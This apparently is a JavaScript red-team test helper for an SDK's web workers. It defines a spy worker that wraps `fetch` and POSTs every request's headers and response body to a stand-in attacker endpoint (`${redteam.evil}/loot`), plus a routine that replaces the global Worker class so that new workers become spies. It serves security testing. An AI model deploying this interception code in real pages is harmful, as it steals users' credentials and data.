// An attacker's own workers: the SDK's script inside them, with a `fetch` that reports.
{
  const { redteam } = globalThis;

  /** The source of a worker that reports each request's headers and each answer, and runs `script`. */
  redteam.spy = (script) => `
    const own = self.fetch;
    const home = (text) => own("${redteam.evil}/loot", { method: "POST", mode: "no-cors", body: text });
    self.postMessage?.("a spy runs");
    self.fetch = async (url, init) => {
      home([...new Headers(init?.headers)].join());
      const response = await own.call(self, url, init);
      response.clone().text().then(home);
      return response;
    };
    importScripts("${script}");`;

  redteam.blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));

  /** From now on a worker that `view` starts is a spy. Gives the class that was there before. */
  redteam.replaceWorker = (view = globalThis) => {
    const { Worker } = view;
    view.Worker = class extends Worker {
      constructor(script, options) {
        redteam.started = (redteam.started ?? 0) + 1;
        super(redteam.blob(redteam.spy(String(script))), options);
      }
    };
    return Worker;
  };

  /** Configures a worker as the SDK does and asks it for `url`. Gives what was heard of it, and whether it was a spy
   * that ran. */
  redteam.employ = async (address, configuration, url) => {
    const { far, heard, ask } = redteam.channel();
    let worker;
    let ran = false;
    try {
      worker = new Worker(address);
    } catch (error) {
      return { heard: [error.name], ran };
    }
    worker.onerror = (event) => {
      event.preventDefault();
      heard.push(event.message || "error");
    };
    worker.onmessage = () => (ran = true);
    worker.postMessage(configuration, [far]);
    await redteam.until(() => heard.length > 0, 3000);
    ask(url);
    await redteam.wait(1200);
    return { heard, ran };
  };
}
